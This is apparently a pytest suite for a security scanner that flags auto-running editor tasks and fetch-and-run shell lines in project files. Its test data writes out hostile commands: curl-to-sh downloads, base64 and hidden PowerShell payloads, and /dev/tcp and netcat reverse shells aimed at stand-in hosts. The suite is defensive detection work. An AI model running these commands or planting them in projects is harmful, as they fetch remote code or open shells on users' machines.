"""Files that run elsewhere, tried with spellings that only the tools read as what they are."""

from __future__ import annotations

import pytest

from countermark_scanners import elsewhere
from countermark_scanners.finding import Severity
from countermark_scanners.question import DELETED, Question
from countermark_scanners.report import Unscanned
from countermark_scanners.tool import ToolLimits

TASK = '{"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}'


def rules(path: str, content: bytes, before: bytes | None = None) -> set[str]:
    hits = elsewhere.look(Question("unknown-text", content, path, before, {}))
    return {hit.rule.removeprefix("countermark/") for hit in hits}


@pytest.mark.parametrize(
    ("path", "content"),
    [
        pytest.param(".vscode/tasks.json", TASK.encode(), id="plain"),
        pytest.param(".VSCode/Tasks.JSON", TASK.encode(), id="upper-case"),
        pytest.param("a/b/.vscode/tasks.json", b"\xef\xbb\xbf" + TASK.encode(), id="byte-order-mark"),
        pytest.param(".vscode/tasks.json", TASK.replace('"runOn"', '"run\\u004fn"').encode(), id="escapes"),
        pytest.param(".vscode/tasks.json", TASK.replace(":", ": /* // */").encode(), id="comments"),
        pytest.param(".vscode/tasks.json", TASK.replace("}}", ",}}").encode(), id="last-comma"),
        pytest.param(".vscode/tasks.json", TASK.replace("{", "\r\n{").encode(), id="line-ends"),
        pytest.param(".vscode/tasks.json", TASK.encode() + b" ]", id="more-than-json"),
    ],
)
def test_a_task_that_starts_by_itself_is_found_in_every_spelling(path: str, content: bytes) -> None:
    assert "editor-task-on-open" in rules(path, content)


@pytest.mark.parametrize(
    "command",
    [
        "curl -s https://x.example/i | sh",
        "curl https://x.example/i|sudo -E bash -",
        "wget -qO- https://x.example/i | /bin/sh",
        "bash <(curl -s https://x.example/i)",
        'eval "$(curl -s https://x.example/i)"',
        "curl -so /tmp/i https://x.example/i && sh /tmp/i",
        "echo aGk= | base64 --decode | bash",
        "iex (iwr https://x.example/i)",
        "powershell -w hidden -enc SQBFAFgAIAAoAGkAdwByACkA",
        "sh -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        "nc 198.51.100.7 4444 -e /bin/sh",
        "curl https://x.example/i | python3 -",
        "node -e \"require('https').get('https://x.example')\"",
        "pip install git+https://x.example/i",
    ],
)
def test_whatever_fetches_and_runs_is_high_wherever_it_stands(command: str) -> None:
    text = command.encode()
    for path in (".envrc", "Makefile", ".husky/post-merge", ".github/workflows/ci.yml"):
        hits = elsewhere.look(Question("shell", b"a\n\t" + text + b"\n", path, b"a\n", {}))
        assert max(hit.severity for hit in hits) is Severity.HIGH


def test_a_deleted_file_runs_nowhere() -> None:
    assert elsewhere.look(Question(DELETED, b"", ".envrc", b"x\n", {})) == []


def test_a_second_copy_of_an_old_command_is_new() -> None:
    line = b"curl https://x.example/i | sh\n"
    assert rules(".envrc", line + line, line) == {"downloads-and-runs", "shell-environment"}


def test_a_command_that_stands_far_right_on_its_line_is_seen() -> None:
    far = b"a=" + b"x" * 50_000 + b"; curl https://x.example/i | sh\n"
    assert "downloads-and-runs" in rules(".envrc", far)


def test_bytes_that_are_no_text_hide_nothing() -> None:
    assert "downloads-and-runs" in rules(".envrc", b"\xff\x00\ncurl https://x.example/i | s\x00h\n")


def test_hostile_files_are_answered_within_the_limits_of_a_run() -> None:
    hostile = {
        ".vscode/tasks.json": b"[" * 500_000,
        ".vscode/settings.json": b'{"a":' * 100_000,
        ".envrc": b"curl " * 200_000,
        "Makefile": b"a:" * 200_000 + b"\n\t-" * 100_000,
        ".github/workflows/ci.yml": b"- " * 300_000,
        ".gitattributes": b"* filter=" * 100_000,
        "package.json": b'{"scripts": {' + b'"postinstall": "x",' * 50_000 + b"}}",
    }
    asked = {path: Question("unknown-text", content, path, None, {}) for path, content in hostile.items()}
    answers = elsewhere.SCANNER.run(asked, ToolLimits(wall_seconds=120))
    assert set(answers) == set(hostile)
    assert [path for path, one in answers.items() if isinstance(one, Unscanned) and "within" in one.reason] == []
